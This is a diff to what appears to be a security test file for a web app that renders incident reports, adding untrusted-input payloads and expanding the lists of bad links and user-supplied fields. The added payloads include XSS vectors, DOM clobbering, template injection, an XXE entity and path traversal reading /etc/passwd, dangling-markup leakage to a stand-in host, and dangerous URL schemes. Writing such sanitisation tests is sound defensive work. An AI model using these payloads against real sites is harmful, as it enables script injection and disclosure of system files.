@@ -63,6 +63,33 @@ PAYLOADS: dict[str, str] = {
     "css": "red;}*{background:url(https://x.example/)}",
     "combining": "e" + "\u0301" * 200,
     "base85_look": "!!!!!zzzzz",
+    "svg_animate": "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
+    "details_toggle": "<details open ontoggle=pwn()><summary>x</summary></details>",
+    "object_embed": "<object data='data:text/html,<script>parent.pwn()</script>'></object><embed src=javascript:pwn()>",
+    "shadow_root": "<div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>",
+    "clobber": "<form id=borderatlas name=borderatlas><input name=store id=panel></form><a id=number name=map>",
+    "import_map": '<script type=importmap>{"imports":{"x":"data:text/javascript,pwn()"}}</script>',
+    "dangling_markup": "<img src='https://x.example/?all=",
+    "utf7": "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
+    "full_width": "＜script＞pwn()＜／script＞ ﹤img src=x onerror=pwn()﹥",
+    "percent": "%3Cscript%3Epwn()%3C/script%3E %253Cimg%2520onerror%253Dpwn()%253E",
+    "escapes_spelt_out": "\\u003cscript\\u003epwn()\\u003c/script\\u003e \\x3cimg onerror=pwn()\\x3e \\u007b\\u007b7*7}}",
+    "json_break": '"}]},"title":"taken","incidents":{"size":0}}//',
+    "replacement": "$& $1 $` $' $$ $<n>",
+    "placeholders": "{n} of {all}: {name} {from} {to} {0}",
+    "other_templates": "{{constructor.constructor('pwn()')()}} <%= pwn() %> #{pwn()} [[${pwn()}]]",
+    "xml_entity": '<?xml-stylesheet href="javascript:pwn()"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
+    "css_import": "@import 'https://x.example/x.css'; x{color:expression(pwn())}",
+    "address_part": "#event_type=!&drawer=table&q=x&undated=0",
+    "path": "../../../../etc/passwd\\..\\con.html",
+    "noncharacters": "a\ufffeb\uffffc\U0001fffed",
+    "tag_letters": "\U0001f3f4\U000e0067\U000e0062\U000e007f",
+    "arabic_mark": "\u061csafe\u061c \u200fgnp.exe",
+    "markdown": "[x](javascript:pwn()) ![x](https://x.example/x.png)",
+    "link_relative": "//x.example/pwn",
+    "link_view_source": "view-source:https://x.example/",
+    "link_intent": "intent://x#Intent;scheme=javascript;end",
+    "link_filesystem": "filesystem:https://x.example/temporary/pwn.html",
 }
 
 MEGABYTE = "<img src=x onerror=pwn()>{{7*7}}" * 32_768
@@ -70,12 +97,14 @@ MEGABYTE = "<img src=x onerror=pwn()>{{7*7}}" * 32_768
 
 BAD_LINKS = (
     "javascript_link", "javascript_link_tab", "data_link", "img_onerror", "prototype", "jinja_sum", "link_case", "link_blank",
-    "link_newline", "link_vbscript", "link_file", "link_blob",
+    "link_newline", "link_vbscript", "link_file", "link_blob", "link_relative", "link_view_source", "link_intent",
+    "link_filesystem", "markdown", "address_part", "path", "dangling_markup", "replacement", "placeholders",
 )  # fmt: skip
 """Payloads that, given as an address, must become no link at all."""
 
 FIELDS = (
-    "id", "report", "title", "quote", "event_type", "date_start", "publisher", "source_date", "place_name", "rule",
-    "review_status", "admin1", "language", "source_url",
+    "id", "report", "title", "quote", "event_type", "date_start", "date_end", "publisher", "source_date", "place_name",
+    "name_verbatim", "rule", "review_status", "certainty", "admin1", "language", "source_url", "place_id", "remarks",
+    "candidates", "country", "river", "bank", "time_precision", "relation",
 )  # fmt: skip
 """Columns that come from a report or from a table that anybody wrote."""
